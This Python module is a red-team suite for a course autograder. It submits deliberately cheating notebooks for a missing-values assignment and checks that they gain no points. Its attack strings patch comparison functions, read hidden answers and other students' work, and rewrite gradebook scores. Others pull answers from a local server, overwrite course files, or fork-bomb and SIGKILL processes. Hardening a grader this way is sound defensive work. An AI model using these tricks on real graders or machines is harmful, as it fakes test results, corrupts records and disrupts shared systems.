"""Adversarial submissions for 01_missing_values, graded by the class command (grading.autograde).

Each attack is a submission named for what it tries. Where it cheats, its answers are wrong, so
any point on its `cheats` cells is a point wrongly gained. Honest submissions are graded in the
same batch and must keep their exact scores. `python -m grading.adversarial` prints the report.
"""
from __future__ import annotations

import copy
import http.server
import json
import tempfile
import threading
from dataclasses import dataclass, field
from pathlib import Path

from mlcourse.data import sha256_of

from . import autograde, submissions
from .course import CourseCopy, gradebook_scores, read_notebook, source_notebook

ASSIGNMENT = "01_missing_values"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"

WRONG = {  # plausible wrong answers the attacks try to get credit for
    "ex1_missing_summary": 'def missing_summary(df):\n    return pd.DataFrame({"n_missing": [0], "pct_missing": [0.0]})',
    "ex2_complete_case": "def complete_case(df, subset):\n    return df",
    "ex3_impute_simple": "def impute_simple(train, test, columns, strategy):\n    return train, test",
    "ex4_impute_with_model": "def impute_with_model(train, test, target, features):\n    return train, test",
    "ex5_interpolate_series": "def interpolate_series(s):\n    return s",
    "ex6_variance_ratio": "def variance_ratio(original, imputed):\n    return 1.0",
}

FIND_FILES = '''
import glob, os
def _find(pattern):
    hits, here = [], os.path.abspath(os.getcwd())
    for _ in range(8):
        hits += glob.glob(os.path.join(here, pattern))
        here = os.path.dirname(here)
    return hits + glob.glob("/**/" + pattern, recursive=False)
'''


@dataclass
class Attack:
    name: str
    tries: str
    cheats: list[str]                           # grade cells where any point is wrongly gained
    answers: dict[str, str] = field(default_factory=dict)   # solution cells replaced
    edit: object = None                         # notebook -> notebook (cell surgery)
    raw: str | None = None                      # exact file text instead of a notebook
    filename: str = NOTEBOOK
    extra_files: dict[str, str] = field(default_factory=dict)
    whole_zero: bool = False                    # must end as 0 on every cell, with a reason
    destructive: bool = False                   # harms the grading machine without a sandbox: never run so


def _drop_cell(grade_id):
    def edit(nb):
        nb.cells = [c for c in nb.cells if submissions.grade_id(c) != grade_id]
        return nb
    return edit


def _duplicate_test(grade_id, source):
    def edit(nb):
        index = next(i for i, c in enumerate(nb.cells) if submissions.grade_id(c) == grade_id)
        fake = copy.deepcopy(nb.cells[index])
        fake.source = fake.source if source is None else source
        fake["id"] = "duplicated-test"
        nb.cells.insert(index if source is not None else index + 1, fake)  # a cheat goes first, a paste after
        return nb
    return edit


def attacks(port: int) -> list[Attack]:
    w = WRONG
    return [
        Attack("eq_always_true_frame", "__eq__가 항상 True인 DataFrame 하위 클래스", ["ex1_missing_summary_test"],
               {"ex1_missing_summary": "class _A(pd.DataFrame):\n    def __eq__(self, o):\n        return True\n"
                                       "def missing_summary(df):\n    return _A({'n_missing': [0]})"}),
        Attack("eq_always_true_float", "__eq__가 항상 True인 float 하위 클래스", ["ex6_variance_ratio_test"],
               {"ex6_variance_ratio": "class _F(float):\n    def __eq__(self, o):\n        return True\n"
                                      "    __hash__ = float.__hash__\ndef variance_ratio(o, i):\n    return _F(0.0)"}),
        Attack("patch_np_allclose", "np.allclose/isclose/testing 패치", ["ex6_variance_ratio_test"],
               {"ex6_variance_ratio": "np.allclose = lambda *a, **k: True\nnp.isclose = lambda *a, **k: True\n"
                                      "np.testing.assert_allclose = lambda *a, **k: None\n" + w["ex6_variance_ratio"]}),
        Attack("patch_numpy_internals", "비교에 쓰이는 np.abs/np.isnan 패치", ["ex5_interpolate_series_test"],
               {"ex5_interpolate_series": "np.abs = lambda x, *a, **k: np.zeros(np.shape(x))\n"
                                          "np.array_equal = lambda *a, **k: True\n" + w["ex5_interpolate_series"]}),
        Attack("patch_pd_testing", "pd.testing, DataFrame.equals 패치", ["ex1_missing_summary_test"],
               {"ex1_missing_summary": "pd.testing.assert_frame_equal = lambda *a, **k: None\n"
                                       "pd.DataFrame.equals = lambda self, other: True\n" + w["ex1_missing_summary"]}),
        Attack("rebind_check_helpers", "확인 함수 이름을 다시 정의", ["ex2_complete_case_test"],
               {"ex2_complete_case": "expect_frame = lambda *a, **k: None\nexpect_type = lambda *a, **k: None\n"
                                     "call = lambda f, *a, **k: f(*a, **k)\n" + w["ex2_complete_case"]}),
        Attack("patch_mlcourse_check", "mlcourse.check 모듈 함수 패치", ["ex3_impute_simple_test"],
               {"ex3_impute_simple": "import mlcourse.check as _m\n_m.expect_frame = lambda *a, **k: None\n"
                                     "_m.expect_type = lambda *a, **k: None\n_m._fail = lambda *a: None\n"
                                     + w["ex3_impute_simple"]}),
        Attack("patch_builtins", "builtins.float/isinstance/type 패치", ["ex6_variance_ratio_test"],
               {"ex6_variance_ratio": "import builtins\nbuiltins.isinstance = lambda *a: True\n"
                                      "builtins.float = lambda *a: 0.6\n" + w["ex6_variance_ratio"]}),
        Attack("showtraceback_override", "오류 출력을 숨겨 실패를 통과로 보이게 함", ["ex4_impute_with_model_test"],
               {"ex4_impute_with_model": "get_ipython().showtraceback = lambda *a, **k: None\n"
                                         "import sys\nsys.excepthook = lambda *a: None\n" + w["ex4_impute_with_model"]}),
        Attack("read_gradebook", "gradebook.db에서 숨은 정답 읽기", ["q1_answer_test"],
               {"q1_answer": FIND_FILES + '''
import re, sqlite3
q1_answer = 1
for path in _find("gradebook.db"):
    try:
        text = " ".join(str(r) for r in sqlite3.connect(path).execute("select source from base_cells"))
        q1_answer = int(re.search(r"int\\(q1_answer\\) != (\\d)", text).group(1))
    except Exception:
        pass'''}),
        Attack("read_source", "source/ 노트북에서 정답 읽기", ["q2_answer_test"],
               {"q2_answer": FIND_FILES + '''
import re
q2_answer = 1
for path in _find("source/*/*.ipynb"):
    try:
        q2_answer = int(re.search(r"q2_answer = (\\d)", open(path).read()).group(1))
    except Exception:
        pass'''}),
        Attack("read_other_student", "다른 학생의 제출물에서 답 베끼기", ["q3_answer_test"],
               {"q3_answer": FIND_FILES + '''
import re
q3_answer = 1
for path in _find("submitted/*/*/*.ipynb") + _find("autograded/*/*/*.ipynb"):
    try:
        q3_answer = int(re.search(r"q3_answer = (\\d)", open(path).read()).group(1))
    except Exception:
        pass'''}),
        Attack("network_exfiltration", "127.0.0.1의 서버에서 답 받기/정보 보내기", ["q4_answer_test"],
               {"q4_answer": f'''
import urllib.request
q4_answer = 1
try:
    q4_answer = int(urllib.request.urlopen("http://127.0.0.1:{port}/answer?leak=1", timeout=2).read())
except Exception:
    pass'''}),
        Attack("write_gradebook", "성적부에 모든 점수를 만점으로 기록", ["ex5_interpolate_series_test"],
               {"ex5_interpolate_series": FIND_FILES + '''
import sqlite3
for path in _find("gradebook.db"):
    try:
        db = sqlite3.connect(path)
        db.execute("update grade set auto_score = 99")
        db.commit()
    except Exception:
        pass
''' + w["ex5_interpolate_series"]}),
        Attack("write_course_files", "data/와 source/, 다른 학생 노트북 덮어쓰기", ["ex6_variance_ratio_test"],
               {"ex6_variance_ratio": FIND_FILES + '''
for pattern in ("data/*.csv", "source/*/*.ipynb", "submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb"):
    for path in _find(pattern):
        try:
            open(path, "w").write("owned")
        except Exception:
            pass
''' + w["ex6_variance_ratio"]}, destructive=True),
        Attack("shadow_helper_package", "제출 폴더에 가짜 mlcourse 패키지 동봉", ["ex1_missing_summary_test"],
               {"ex1_missing_summary": w["ex1_missing_summary"]},
               extra_files={
                   "mlcourse/__init__.py": "def setup_notebook(*a, **k):\n    return 42\n"
                                           "def load_csv(*a, **k):\n    import pandas\n    return pandas.DataFrame()\n",
                   "mlcourse/check.py": "__all__ = ['call', 'expect_choice', 'expect_float', 'expect_frame', "
                                        "'expect_series', 'expect_type', 'passed']\n"
                                        "def call(f, *a, **k):\n    return f(*a, **k)\n"
                                        "def _ok(*a, **k):\n    pass\n"
                                        "expect_choice = expect_float = expect_frame = expect_series = expect_type = passed = _ok\n",
                   "mlcourse/guard.py": "def restore(ns):\n    pass\n",
               }),
        Attack("delete_test_cell", "확인 셀 삭제", ["ex1_missing_summary_test"],
               {"ex1_missing_summary": w["ex1_missing_summary"]}, edit=_drop_cell("ex1_missing_summary_test")),
        Attack("edit_test_cell", "확인 셀 내용을 pass로 바꿈", ["ex2_complete_case_test"],
               {"ex2_complete_case": w["ex2_complete_case"]},
               edit=lambda nb: submissions.replace_cell(nb, "ex2_complete_case_test", "pass")),
        Attack("duplicate_grade_id", "같은 grade_id의 가짜 확인 셀을 앞에 추가", ["ex3_impute_simple_test"],
               {"ex3_impute_simple": w["ex3_impute_simple"]},
               edit=_duplicate_test("ex3_impute_simple_test", 'passed("가짜")')),
        Attack("infinite_loop", "함수가 끝나지 않음", ["ex4_impute_with_model_test"],
               {"ex4_impute_with_model": "def impute_with_model(train, test, target, features):\n    while True:\n        pass"}),
        Attack("memory_bomb", "메모리를 끝없이 할당", ["ex5_interpolate_series_test"],
               {"ex5_interpolate_series": "def interpolate_series(s):\n    hog = []\n    while True:\n"
                                          "        hog.append(bytearray(50_000_000))"}, destructive=True),
        Attack("fork_bomb", "프로세스를 끝없이 복제", ["ex6_variance_ratio_test"],
               {"ex6_variance_ratio": "import os\ndef variance_ratio(original, imputed):\n    while True:\n"
                                      "        os.fork()"}, destructive=True),
        Attack("huge_output", "수십 MB를 출력", ["ex1_missing_summary_test"],
               {"ex1_missing_summary": "def missing_summary(df):\n    for _ in range(30):\n"
                                       "        print('y' * 1_000_000)\n    return pd.DataFrame()"}),
        Attack("sys_exit", "sys.exit 호출", ["ex2_complete_case_test"],
               {"ex2_complete_case": "import sys\ndef complete_case(df, subset):\n    sys.exit(0)"}),
        Attack("os_exit", "os._exit로 커널 종료", ["ex3_impute_simple_test"],
               {"ex3_impute_simple": "import os\ndef impute_simple(train, test, columns, strategy):\n    os._exit(0)"},
               whole_zero=True),
        Attack("kill_processes", "보이는 모든 프로세스에 SIGKILL", ["ex4_impute_with_model_test"],
               {"ex4_impute_with_model": "import os, signal\ndef impute_with_model(train, test, target, features):\n"
                                         "    os.kill(-1, signal.SIGKILL)"}, destructive=True),
        Attack("invalid_json", "JSON이 아닌 파일 제출", [], raw="{ this is not json", whole_zero=True),
        Attack("wrong_notebook_name", "노트북 이름을 바꿔 제출", [], filename="my_answers.ipynb", whole_zero=True),
        Attack("missing_notebook", "빈 폴더 제출", [], raw="", filename="", whole_zero=True),
    ]


HONEST = ["honest-perfect-1", "honest-perfect-2", "honest-blank", "honest-partial", "honest-colab",
          "honest-duplicated-cell"]


class _AnswerServer(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self):  # noqa: N802
        type(self).hits.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"3")

    def log_message(self, *args):
        pass


def run_suite(workdir: Path, workers: int = 2, timeout: int = 10, use_sandbox: bool = True) -> dict:
    """Grade attacks and honest submissions in one batch; return the figures and the details."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _AnswerServer)
    _AnswerServer.hits = []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        course = CourseCopy(workdir / "course", only=[ASSIGNMENT])
        release_nb = read_notebook(course.generate(ASSIGNMENT))
        reference = submissions.reference_answers(source_notebook(ASSIGNMENT))
        perfect = submissions.fill(release_nb, reference)
        honest = {
            "honest-perfect-1": perfect, "honest-perfect-2": perfect, "honest-blank": release_nb,
            "honest-partial": submissions.fill(release_nb, {**reference, **{k: WRONG[k] for k in ("ex3_impute_simple", "ex5_interpolate_series")}}),
            # copy-pasting a cell in Jupyter duplicates its grade_id: nothing may be lost for it
            "honest-duplicated-cell": _duplicate_test("ex1_missing_summary_test", None)(copy.deepcopy(perfect)),
        }
        for student, nb in honest.items():
            course.submit(student, ASSIGNMENT, nb)
        course.submit("honest-colab", ASSIGNMENT, None, raw=submissions.colab_saved(perfect))
        plan = [a for a in attacks(server.server_address[1]) if use_sandbox or not a.destructive]
        for attack in plan:
            folder = course.root / "submitted" / f"attack-{attack.name}" / ASSIGNMENT
            folder.mkdir(parents=True)
            if attack.raw is not None:
                if attack.filename:
                    (folder / attack.filename).write_text(attack.raw, encoding="utf-8")
            else:
                nb = submissions.fill(release_nb, {**reference, **attack.answers})
                nb = attack.edit(nb) if attack.edit else nb
                (folder / attack.filename).write_text(json.dumps(nb, ensure_ascii=False), encoding="utf-8")
            for relative, text in attack.extra_files.items():
                (folder / relative).parent.mkdir(parents=True, exist_ok=True)
                (folder / relative).write_text(text, encoding="utf-8")
        protected = [p for p in (course.root / "data").iterdir()] + [course.root / "source" / ASSIGNMENT / NOTEBOOK]
        before = {p: sha256_of(p) for p in protected}

        broken, outcomes = 0, []
        try:
            outcomes = autograde.run(course.root, [ASSIGNMENT], workers=workers, timeout=timeout,
                                     use_sandbox=use_sandbox, progress=False)
        except Exception as exc:  # a batch that dies is what this suite exists to catch
            broken, outcomes = 1, [exc]
        expected_students = set(HONEST) | {f"attack-{a.name}" for a in plan}
        if not broken and {o.student for o in outcomes} != expected_students:
            broken = 1
        scores = gradebook_scores(course.db_url, ASSIGNMENT)
        full = {n: c.max_score for n, c in scores.get("honest-perfect-1", {}).items()}
        expect_honest = {
            "honest-perfect-1": full, "honest-perfect-2": full, "honest-colab": full, "honest-duplicated-cell": full,
            "honest-blank": {n: 0.0 for n in full},
            "honest-partial": {n: (0.0 if n in ("ex3_impute_simple_test", "ex5_interpolate_series_test") else m)
                               for n, m in full.items()},
        }
        manual = "written_compare_methods"
        honest_changed = [s for s, want in expect_honest.items()
                          if {n: c.score for n, c in scores.get(s, {}).items() if n != manual}
                          != {n: v for n, v in want.items() if n != manual}]
        gained, details = 0.0, []
        reasons = {o.student: o.reason for o in outcomes if isinstance(o, autograde.Outcome)}
        for attack in plan:
            cells = scores.get(f"attack-{attack.name}", {})
            points = sum(cells[c].score or 0 for c in attack.cheats if c in cells)
            if attack.whole_zero:
                points += sum(c.score or 0 for c in cells.values())
            gained += points
            details.append((attack.name, attack.tries, points, reasons.get(f"attack-{attack.name}", "")))
        return {
            "attempts": len(plan),
            "points_wrongly_gained": gained,
            "batches_broken": broken,
            "honest_grades_changed": len(honest_changed) + (1 if any(sha256_of(p) != h for p, h in before.items()) else 0),
            "network_requests_received": len(_AnswerServer.hits),
            "details": details,
            "honest_changed": honest_changed,
            "outcomes": outcomes,
            "course_root": course.root,
            "course": course,
        }
    finally:
        server.shutdown()
        server.server_close()


def report(result: dict) -> str:
    lines = [f"{'attack':<26} {'points':>6}  reason / what it tried"]
    for name, tries, points, reason in result["details"]:
        lines.append(f"{name:<26} {points:>6g}  {reason or '-'}  ({tries})")
    lines += ["", f"attempts tried: {result['attempts']}",
              f"points wrongly gained: {result['points_wrongly_gained']:g} (goal 0)",
              f"batches broken: {result['batches_broken']} (goal 0)",
              f"honest grades changed: {result['honest_grades_changed']} (goal 0)",
              f"requests that reached the 127.0.0.1 server: {result['network_requests_received']} (goal 0)"]
    return "\n".join(lines)


if __name__ == "__main__":
    import sys

    with tempfile.TemporaryDirectory(prefix="adversarial-") as tmp:
        result = run_suite(Path(tmp), use_sandbox="--no-sandbox" not in sys.argv)
        print(report(result))
        from . import tamper
        print("\n" + tamper.report(result["course_root"], [o for o in result["outcomes"] if isinstance(o, autograde.Outcome)]))
